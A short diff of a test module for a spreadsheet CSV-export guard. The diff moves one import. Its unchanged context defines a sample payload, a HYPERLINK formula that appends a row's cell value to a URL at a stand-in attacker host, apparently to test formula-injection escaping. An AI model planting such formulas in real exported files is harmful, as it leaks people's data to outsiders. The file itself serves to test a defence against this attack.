@@ -25,10 +25,10 @@ from app.services.spreadsheet import sheetfile
 from app.services.spreadsheet.sheetfile import CSV_FORMULA_STARTS, csv_guard, csv_unguard
 from app.services.supporters import io as supporter_io
 from tests.accounts_support import act_as
-from tests.services import test_supporter_io
 from tests.services.conftest import setup_tehran_office, template_row
 from tests.services.events import test_event_io
 from tests.services.supporter_fixtures import issue
+from tests.services.supporters import test_supporter_io
 
 #: The issue's example: a link that sends the row's data elsewhere when clicked.
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'
